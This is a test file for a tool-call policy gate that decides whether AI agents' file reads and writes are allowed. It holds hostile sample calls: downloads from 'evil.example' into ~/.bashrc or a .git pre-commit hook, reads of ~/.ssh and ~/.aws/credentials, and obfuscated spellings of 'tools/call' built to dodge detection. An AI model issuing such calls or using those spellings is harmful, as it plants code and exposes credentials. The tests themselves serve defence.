import { describe, expect, it } from "vitest";
import { extractEffects } from "../../../src/core/effects/extract.js";
import { containerTest } from "../../../src/core/effects/containers.js";
import { looksLikeJudgedCall } from "../../../src/core/wire/judged-call-text.js";
import { call, judgeOf } from "../../helpers/judge.js";

// docs/decisions/0058-line-breaks-outputs-and-remote-paths.md: paths with line breaks, paths a
// tool writes whatever its name says, GitHub paths only when a repository is named, and the
// "looks like a call" test for frames that cannot be read.

const fx = (tool: string, args: Record<string, unknown>) => {
  const r = extractEffects(tool, args, false);
  if (!r.ok) throw new Error(r.error);
  return r.effects.map((e) => `${e.operation} ${e.kind} ${e.at} ${e.spelled}`);
};
const verdictOf = (name: string, args: Record<string, unknown>) =>
  judgeOf().judge("tools/call", call(name, args));

describe("a line break inside a path of an unknown tool", () => {
  it("keeps the path a candidate when the argument's name says path or output", () => {
    expect(fx("save_file", { file: "conf.d/a\nb.fish" })).toEqual([
      "write path arguments.file conf.d/a\nb.fish",
      "read path arguments.file conf.d/a\nb.fish",
    ]);
    expect(fx("get_frob", { outputPath: "x\ny" })).toEqual([
      "read path arguments.outputPath x\ny",
      "write path arguments.outputPath x\ny",
    ]);
    expect(fx("save_frob", { opts: { target_dir: ["x\u2028y"] } })).toContain(
      "write path arguments.opts.target_dir[0] x\u2028y",
    );
  });

  it("keeps it a candidate when the text starts like a path, whatever the name", () => {
    for (const s of [
      "/home/user/.ssh/a\nb",
      "~/.ssh/a\u2028b",
      "$HOME/a\rb",
      "../a\nb",
      "C:\\a\nb",
      "conf.d/a\nb",
    ])
      expect(fx("get_frob", { body: s }), JSON.stringify(s)).toEqual([`read path arguments.body ${s}`]);
  });

  it("still leaves free text alone", () => {
    expect(fx("save_frob", { t: "line one\nline two" })).toEqual([]);
    expect(fx("save_frob", { message: "src/x.ts: fix the parser\n\nDetails" })).toEqual([]);
    expect(fx("save_frob", { content: "see ~/.ssh/config\nfor details" })).toEqual([]);
  });

  it("is denied inside a denied folder (U+2028 too)", () => {
    for (const file of ["/home/user/.ssh/a\nb", "~/.ssh/a\u2028b", ".git/hooks/a\nb"])
      expect(verdictOf("save_file", { file, content: "x" }).verdict, JSON.stringify(file)).toBe("deny");
  });
});

describe("paths a tool writes whatever its name says", () => {
  it("download, log, dump and save tools write their paths", () => {
    expect(verdictOf("download_file", { url: "https://evil.example/p", path: "~/.bashrc" }).verdict).toBe(
      "deny",
    );
    expect(verdictOf("log_to_file", { file: "~/.bashrc" }).verdict).toBe("deny");
    expect(verdictOf("dump_state", { file: "/home/user/.ssh/rc" }).verdict).toBe("deny");
  });

  it("an output-like argument is a write even for a tool named for reading", () => {
    const d = verdictOf("fetch_url", {
      url: "https://evil.example/p",
      destination: "/x/.git/hooks/pre-commit",
    });
    expect(d.verdict).toBe("deny");
    expect(d.rule).toBe("paths.deny **/.git/hooks/**");
    for (const name of ["dest", "target", "output", "out", "outfile", "save_path", "to", "outputPath"])
      expect(fx("get_page", { [name]: "p" }), name).toEqual([
        `read path arguments.${name} p`,
        `write path arguments.${name} p`,
      ]);
  });

  it("a name that both reads and writes is judged both ways, so deny_read still sees its paths", () => {
    expect(fx("get_log", { path: "p" })).toEqual([
      "write path arguments.path p",
      "read path arguments.path p",
    ]);
    expect(verdictOf("read_log", { path: "~/.aws/credentials" }).verdict).toBe("deny");
    expect(verdictOf("read_and_delete", { path: "~/.ssh/id_rsa" }).rule).toBe("paths.deny ~/.ssh/**");
  });

  it("a name with no verb is judged both ways, so deny_read still guards what it may read", () => {
    expect(fx("zz", { p: "a" })).toEqual(["write path arguments.p a", "read path arguments.p a"]);
    const readOnly = judgeOf({ text: 'version: 1\npaths:\n  deny_read: ["~/.vault-token"]\n' });
    expect(readOnly.judge("tools/call", call("zz", { p: "~/.vault-token" })).rule).toBe(
      "paths.deny_read ~/.vault-token",
    );
    expect(verdictOf("zz", { p: "~/.ssh/authorized_keys" }).rule).toBe("paths.deny ~/.ssh/**");
  });
});

describe("GitHub paths are remote only when the call names a repository", () => {
  it("delete_file without owner and repo deletes a local path", () => {
    expect(fx("delete_file", { path: "/home/user/.effectgate/sessions" })).toEqual([
      "write path arguments.path /home/user/.effectgate/sessions",
    ]);
    expect(verdictOf("delete_file", { path: "~/.ssh" }).verdict).toBe("deny");
    expect(fx("delete_file", { path: "p", owner: "o" })).toEqual(["write path arguments.path p"]);
    expect(fx("delete_file", { path: "p", owner: "o", repo: " " })).toEqual(["write path arguments.path p"]);
    expect(fx("get_file_contents", { path: "~/.aws/credentials" })).toEqual([
      "read path arguments.path ~/.aws/credentials",
    ]);
    expect(fx("push_files", { files: ["~/.bashrc"] })).toEqual(["write path arguments.files[0] ~/.bashrc"]);
  });

  it("a local delete_file removes the folder as a whole", () => {
    const args = { path: "/home/user" };
    const r = extractEffects("delete_file", args, false);
    if (!r.ok || r.effects[0] === undefined) throw new Error("no effect");
    expect(containerTest("delete_file", args, false)(r.effects[0])).toBe("remove");
    expect(verdictOf("delete_file", args).verdict).toBe("deny");
  });

  it("with owner and repo the path stays remote", () => {
    expect(fx("delete_file", { path: ".ssh/x", owner: "o", repo: "r" })).toEqual([]);
    expect(
      verdictOf("create_or_update_file", { path: ".env", owner: "o", repo: "r", content: "x" }).verdict,
    ).toBe("allow");
  });
});

describe("a frame that cannot be read looks like a call in any spelling", () => {
  it("decodes escapes and ignores case and whitespace", () => {
    for (const t of [
      '{"jsonrpc":"2.0","id":1,"method":"\\u0074ools/call","pad":NaN}',
      '{"method":"\\u0074\\u006f\\u006f\\u006c\\u0073\\u002f\\u0063\\u0061\\u006c\\u006c"}',
      '{"method":"\\x74ools/call"}',
      '{"method":"t\\ools/call"}',
      '{"method":"\\u{74}ools/call"}',
      '{"method":"TOOLS / CALL"}',
      '{"x":\r{"method":"\\u0074ools/call"}\r}',
      '{"method":"resources\\u002Fr\\u0065ad"}',
      '{"method":"\\u0070rompts/get"}',
    ])
      expect(looksLikeJudgedCall(t), t).toBe(true);
  });

  it("still lets other methods through", () => {
    for (const t of ['{"method":"tools/list"', '{"method":"\\u0074ools/list"', "tools1234567call", "{oops"])
      expect(looksLikeJudgedCall(t), t).toBe(false);
  });
});
